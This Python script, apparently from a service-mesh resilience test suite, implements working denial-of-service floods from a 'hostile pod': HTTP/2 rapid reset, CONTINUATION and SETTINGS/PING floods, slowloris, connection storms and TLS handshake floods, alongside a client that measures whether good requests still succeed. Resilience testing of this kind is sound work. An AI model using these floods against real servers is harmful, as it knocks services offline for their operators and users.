#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Floods of a hostile pod, and the requests of a good one. Runs inside it: floods.py NAME JSON-ARGUMENTS; goes on until the
stop file is there, and prints one JSON document."""
import json
import os
import socket
import ssl
import struct
import sys
import time

from attacks import PREFACE, dial, frame

# Between two pieces of a flood: this is about what is refused and who is blamed, not about whose processor it is.
PAUSE = 0.01
GET = b"\x82\x86\x84\x41\x01a"  # of authority "a"
POST = b"\x83\x86\x44\x05/hold\x41\x01a"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


class Flood:
    def __init__(self, given):
        self.given = given
        self.opened = 0
        self.ended = 0
        self.kept = []

    def over(self):
        return os.path.exists(self.given["stop"])

    def dial(self):
        connection = dial(self.given["host"], self.given["port"], 5)
        self.opened += 1
        return connection

    def again(self, pieces):
        """Sends pieces until the other side ends the connection, then begins with another one."""
        while not self.over():
            try:
                with self.dial() as connection:
                    connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
                    connection.settimeout(0.0)
                    for piece in pieces():
                        self.push(connection, piece)
                        if self.over():
                            return
                        time.sleep(PAUSE)
            except OSError:
                self.ended += 1

    @staticmethod
    def push(connection, piece):
        """All of it, reading meanwhile, so that answers do not stop the flood."""
        view = memoryview(piece)
        while view:
            try:
                while True:
                    if not connection.recv(65536):
                        raise ConnectionError("ended")
            except BlockingIOError:
                pass
            try:
                view = view[connection.send(view):]
            except BlockingIOError:
                time.sleep(0.001)

    def keep(self, count, begin, then=lambda connection: None):
        """Holds so many connections, each begun alike; opens another for each that ends."""
        while not self.over():
            alive = []
            for connection in self.kept:
                try:
                    then(connection)
                    if connection.recv(65536):
                        alive.append(connection)
                        continue
                except BlockingIOError:
                    alive.append(connection)
                    continue
                except OSError:
                    pass
                self.ended += 1
                connection.close()
            self.kept = alive
            for _ in range(min(20, count - len(self.kept))):
                try:
                    connection = self.dial()
                    connection.sendall(begin)
                    connection.setblocking(False)
                    self.kept.append(connection)
                except OSError:
                    self.ended += 1
            time.sleep(2 * PAUSE)

    # ---- floods

    def rapid_reset(self):
        def pieces():
            for first in range(1, 1 << 20, 200):
                yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, GET) +
                               frame(RST_STREAM, 0, stream, b"\0\0\0\x08") for stream in range(first, first + 200, 2))
        self.again(pieces)

    def continuation(self):
        field = b"\x10\x03x-a\x7f\x21" + b"v" * 160
        def pieces():
            yield frame(HEADERS, END_STREAM, 1, GET)
            while True:
                yield frame(CONTINUATION, 0, 1, field)
        self.again(pieces)

    def repeat(self, piece):
        def pieces():
            while True:
                yield piece
        self.again(pieces)

    def settings(self):
        self.repeat(frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 50)

    def ping(self):
        self.repeat(frame(PING, 0, 0, b"12345678") * 50)

    def window_update(self):
        self.repeat(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01") * 100)

    def huge_headers(self):
        head = b"GET / HTTP/1.1\r\nHost: a\r\n" + b"".join(b"X-%d: %s\r\n" % (n, b"v" * 4000) for n in range(20)) + b"\r\n"
        while not self.over():
            try:
                with self.dial() as connection:
                    connection.sendall(head)
                    while connection.recv(65536):
                        pass
            except OSError:
                pass
            self.ended += 1
            time.sleep(PAUSE)

    def slowloris(self):
        def dribble(connection):
            connection.send(b"x")
        self.keep(100, b"GET / HTTP/1.1\r\nHost: a\r\nX-A: ", dribble)

    def tiny_windows(self):
        ask = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, GET) for stream in range(1, 41, 2))
        self.keep(10, PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + ask)

    def half_open_streams(self):
        """Requests whose content never ends."""
        ask = b"".join(frame(HEADERS, END_HEADERS, stream, POST) for stream in range(1, 181, 2))
        self.keep(10, PREFACE + frame(SETTINGS, 0, 0, b"") + ask)

    def connection_storm(self):
        self.keep(600, b"GET / HTTP/1.1\r\n")

    def handshakes(self):
        """ClientHellos of the mesh, and nothing more."""
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        out = ssl.MemoryBIO()
        try:
            context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=self.given["sni"]).do_handshake()
        except ssl.SSLWantReadError:
            pass
        hello = out.read()
        self.keep(900, hello)

    def run(self, name):
        getattr(self, name)()
        return {"opened": self.opened, "ended": self.ended}


def ask(given):
    """Requests to each host in turn, over connections that are kept and over new ones, until the stop file is there; a file
    beside it tells how many so far."""
    kept, asked, slowest, failures = {}, 0, 0.0, []

    def answer(connection):
        got = b""
        while b"\n" not in got.partition(b"\r\n\r\n")[2]:
            more = connection.recv(65536)
            if not more:
                raise ConnectionError(f"ended after {got[:200]}")
            got += more
        if not got.startswith(b"HTTP/1.1 200 ") or b"APP-REACHED" not in got:
            raise ConnectionError(got[:200].decode(errors="replace"))

    while not os.path.exists(given["stop"]):
        for host in given["hosts"]:
            begin = time.monotonic()
            fresh = asked % 3 == 0
            try:
                connection = None if fresh else kept.get(host)
                if connection is None:
                    connection = socket.create_connection((host, given["port"]), timeout=20)
                connection.sendall(b"GET / HTTP/1.1\r\nHost: web\r\n\r\n")
                answer(connection)
                if fresh:
                    connection.close()
                else:
                    kept[host] = connection
            except OSError as error:
                kept.pop(host, None)
                failures.append(f"{host}: {type(error).__name__} {error}")
            asked += 1
            slowest = max(slowest, time.monotonic() - begin)
        with open(given["stop"] + ".new", "w", encoding="ascii") as file:
            json.dump({"asked": asked, "failures": failures[:20]}, file)
        os.rename(given["stop"] + ".new", given["stop"] + ".progress")
        time.sleep(0.005)
    return {"asked": asked, "failures": failures[:20], "slowest": round(slowest, 3)}


if __name__ == "__main__":
    arguments = json.loads(sys.argv[2])
    print(json.dumps(ask(arguments) if sys.argv[1] == "ask" else Flood(arguments).run(sys.argv[1])), flush=True)
